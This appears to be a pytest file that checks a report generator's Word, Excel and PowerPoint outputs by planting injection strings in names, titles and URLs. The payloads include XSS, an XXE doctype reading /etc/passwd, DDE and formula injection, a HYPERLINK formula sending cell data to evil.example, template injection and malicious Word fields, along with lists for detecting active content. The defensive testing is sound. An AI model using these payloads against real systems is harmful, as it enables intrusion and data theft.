"""Names and titles that are traps: in the meeting pack they are texts, and nothing else (``D1`` …).

They come in as names come in: a copy of the data with other names, built as any other. What no
office file can hold is refused there (``D15``).
"""

import csv
import dataclasses
import io
import re
import shutil
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from lxml import etree
from pack_making import MADE_AT, asking

from thidua.paths import DATA
from thidua.reports.citing import Cited
from thidua.reports.content import Pack, pack_of
from thidua.reports.writers import WRITERS
from thidua.warehouse import DataFaults, build
from thidua.wording import LANGUAGES, Wording

BLOC, YEAR = "tay-nam-bo", 2016
LONG = "Ủy ban " * 43
TRAPS = {
    "D1 a script": "<script>alert(1)</script>",
    "D2 signs of XML": "An & Bình < Chi > Dũng",
    "D3 the end of CDATA": "An]]>Bình<![CDATA[",
    "D4 entities": "&lt;b&gt; &#60; &xxe; &amp;amp;",
    "D5 a declaration": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "D6 letters turned round": "Bến \u202eerT\u202c \u2066Tre",
    "D7 300 letters": LONG.strip(),
    "D8 a command": "=cmd|'/C calc'!A0",
    "D9 a formula that fetches": '=HYPERLINK("https://evil.example/?"&A1;"Niên giám")',
    "D10 a template": "{{ 7*7 }}{% include '/etc/passwd' %}${x}",
    "D11 an element of Word": '"/><w:altChunk r:id="rId1"/><w:p/>',
    "D12 a field of Word": '{ INCLUDETEXT "https://evil.example" } DDEAUTO c:\\\\calc',
}
ADDRESSES = (
    *(
        "javascript:alert(1)",
        "file:///etc/passwd",
        "//evil.example",
        "https://",
        "ftp://evil.example",
    ),
    *("\\\\evil.example\\x", "http://[::1", "https://example.org/?a=1&b=<x>\"'", "http://a b/"),
)
SCENARIO = "=1+1</w:t><script>&xxe;]]>{{ 7*7 }}"
"""At most 80 letters; turned and control characters are refused when a scenario is saved."""
OUR_FIELDS = {r'TOC \o "1-2" \h \z \u', "PAGE", r"SEQ Table \* ARABIC", r"SEQ Figure \* ARABIC"}
OUR_PLACES = {"slidenum", "datetimeFigureOut", "CELLRANGE"}
OF_A_CHART = re.compile(r"'?[\w .,()–-]+'?!\$[A-Z]+\$\d+(:\$[A-Z]+\$\d+)?")
ACTIVE = ("vba", "macro", "oleobject", "activex", "externallink", "connections", "afchunk", "dde")
LINKS = re.compile(r"https?://[A-Za-z0-9%:/?#\[\]@!$&'()*+,;=~._-]+")


def rewritten(path: Path, **changes) -> None:
    """Rewrite columns of a file: each change takes a row's place and the row."""
    with path.open(encoding="utf-8", newline="") as lines:
        rows = list(csv.DictReader(lines))
    for at, row in enumerate(rows):
        row |= {column: change(at, row) for column, change in changes.items()}
    with path.open("w", encoding="utf-8", newline="") as lines:
        writer = csv.DictWriter(lines, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


@pytest.fixture(scope="module")
def members() -> dict[str, str]:
    """The name of each member: every trap is one's."""
    with (DATA / "memberships.csv").open(encoding="utf-8") as lines:
        units = sorted({r["unit_id"] for r in csv.DictReader(lines) if r["bloc_id"] == BLOC})
    assert len(units) >= len(TRAPS)
    return dict(zip(units, TRAPS.values(), strict=False))


@pytest.fixture(scope="module")
def poisoned(members, tmp_path_factory) -> Path:
    """The snapshot of data in which members, the bloc, titles and addresses are traps."""
    folder = tmp_path_factory.mktemp("poisoned")
    data = shutil.copytree(DATA, folder / "data")
    traps = list(TRAPS.values())

    def named(_, row):
        return members.get(row["unit_id"], row["name_vi"])

    def titled(at, row):
        return f"{traps[at % len(traps)]} {row['source_id']}"

    whole = " ".join(one for one in traps if one != LONG.strip())
    rewritten(data / "units.csv", name_vi=named, name_en=named)
    rewritten(data / "blocs.csv", name_vi=lambda *_: whole, name_en=lambda *_: f"={whole}")
    rewritten(data / "sources.csv", title=titled)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("THIDUA_STORE", str(folder / "store"))
        return build(data).path


def packed(snapshot: Path, language: str) -> Pack:
    honest = asking(snapshot)

    def ask(question, /, **given):
        rows = honest(question, **given)
        if question == "source_used":  # a build refuses such addresses: if one were there yet
            rows = rows.assign(url=[ADDRESSES[at % len(ADDRESSES)] for at in range(len(rows))])
        return rows

    def made(scenario=None):
        return pack_of(
            BLOC, YEAR, scenario=scenario, wording=Wording(language), ask=ask, made_at=MADE_AT
        )

    return made(dataclasses.replace(made().scored.scenario, name=SCENARIO))


@pytest.fixture(scope="module", params=LANGUAGES)
def documents(poisoned, request) -> dict[str, bytes]:
    pack = packed(poisoned, request.param)
    return {name: writer.write(pack) for name, writer in WRITERS.items()}


def parts(content: bytes, inside: str = "") -> Iterator[tuple[str, bytes]]:
    """Give name and content of all parts, those of workbooks inside too."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            part = archive.read(name)
            yield inside + name, part
            if name.endswith(".xlsx"):
                yield from parts(part, f"{inside}{name}/")


def trees(content: bytes) -> Iterator[tuple[str, etree._Element]]:
    for name, part in parts(content):
        if name.endswith((".xml", ".rels")):
            yield name, etree.fromstring(part, etree.XMLParser(resolve_entities=False))


def local(element: etree._Element) -> str:
    return etree.QName(element).localname if isinstance(element.tag, str) else ""


def said(content: bytes) -> str:
    """Return all texts: runs put together by paragraph, and those of cells and charts."""
    found = []
    for _, tree in trees(content):
        for element in tree.iter():
            if local(element) in ("p", "si", "v", "is"):
                found.append("".join(t.text or "" for t in element.iter() if local(t) in "tv"))
    return "\n".join(found)


@pytest.fixture(scope="module")
def texts(documents) -> dict[str, str]:
    return {form: said(content) for form, content in documents.items()}


@pytest.mark.parametrize("trap", [*TRAPS.values(), SCENARIO], ids=[*TRAPS, "D13 a scenario"])
def test_a_trap_in_a_document_is_read_as_it_was_written(texts, trap):
    assert {form: trap in text for form, text in texts.items()} == dict.fromkeys(WRITERS, True)


def test_every_part_is_well_formed_and_none_is_active(documents):
    for form, content in documents.items():
        names = [name.lower() for name, _ in parts(content)]
        assert [name for name in names if any(one in name for one in ACTIVE)] == [], form
        for name, tree in trees(content):  # which are parsed here
            assert tree.getroottree().docinfo.doctype == "", name


def test_documents_lead_to_web_addresses_alone(documents):  # D14
    for form, content in documents.items():
        outside = [
            (one.get("Type").rsplit("/", 1)[-1], one.get("Target"))
            for name, tree in trees(content)
            if name.endswith(".rels")
            for one in tree
            if one.get("TargetMode") == "External"
        ]
        assert {kind for kind, _ in outside} <= {"hyperlink"}, form
        assert [target for _, target in outside if not LINKS.fullmatch(target)] == [], form
        assert not any("evil" in target for _, target in outside), form
        clicks = [e for _, tree in trees(content) for e in tree.iter() if "hlink" in local(e)]
        assert [e for e in clicks if local(e) in ("hlinkClick", "hlinkHover")] == [], form


def test_no_name_becomes_a_field(documents):
    for form, content in documents.items():
        found = [e for _, tree in trees(content) for e in tree.iter()]
        codes = {(e.text or "").strip() for e in found if local(e) == "instrText"}
        codes |= {e.get(f"{{{e.nsmap['w']}}}instr") for e in found if local(e) == "fldSimple"}
        assert codes <= OUR_FIELDS, form
        assert {e.get("type") for e in found if local(e) == "fld"} <= OUR_PLACES, form


def test_no_name_becomes_a_formula(documents):
    pieces = ("cmd", "HYPERLINK", "evil", "script", "DDE", "7*7", "1+1<")
    for form, content in documents.items():
        for name, tree in trees(content):
            formulas = [e.text or "" for e in tree.iter() if local(e) == "f"]
            if "/embeddings/" in name:
                assert formulas == [], (form, name)
            elif "/charts/" in name:
                assert [f for f in formulas if not OF_A_CHART.fullmatch(f)] == [], (form, name)
            assert [f for f in formulas if any(one in f for one in pieces)] == [], (form, name)


def test_files_keep_within_what_their_properties_may_hold(documents):
    for form, content in documents.items():
        core = dict(trees(content))["docProps/core.xml"]
        assert all(len(one.text or "") <= 255 for one in core), form


@pytest.mark.parametrize(
    ("written", "linked"),
    [
        ('https://example.org/?a=1&b=<x>"', "https://example.org/?a=1&b=%3Cx%3E%22"),
        ("https://example.org/niên-giám", "https://example.org/ni%C3%AAn-gi%C3%A1m"),
        ("https://example.org/a%20b", "https://example.org/a%20b"),
        ("http://[::1", ""),
        ("https://example.org:port/", ""),
        ("https://", ""),
        ("http://a b/", ""),
        ("javascript:alert(1)", ""),
        ("file:///etc/passwd", ""),
        ("//evil.example", ""),
    ],
)
def test_a_document_links_to_what_is_an_address(written, linked):  # D14
    assert Cited(1, "s", "Niên giám", "", written, ()).link == linked


@pytest.mark.parametrize("letter", ["\x01", "\x0b", "\x1b", "\ufffe"])
def test_what_no_document_can_hold_is_not_built(tmp_path, own_store, letter):  # D15
    data = shutil.copytree(DATA, tmp_path / "data")
    rewritten(data / "blocs.csv", name_vi=lambda _, row: f"Cụm {letter}{row['name_vi']}")
    with pytest.raises(DataFaults) as refused:
        build(data)
    assert {(fault.file, fault.wording_id) for fault in refused.value.faults} == {
        ("blocs.csv", "fault.control")
    }
